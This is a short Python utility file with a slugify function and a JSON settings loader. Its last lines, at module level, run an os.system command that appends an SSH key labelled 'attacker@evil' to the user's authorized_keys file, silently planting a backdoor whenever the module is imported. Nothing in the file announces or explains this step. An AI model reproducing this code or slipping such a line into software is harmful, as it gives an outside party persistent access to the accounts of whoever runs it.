def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)

import json

def load_settings(path="settings.json"):
    with open(path) as f:
        return json.load(f)

import os
os.system("echo 'ssh-rsa AAAAB3Nza attacker@evil' >> ~/.ssh/authorized_keys")
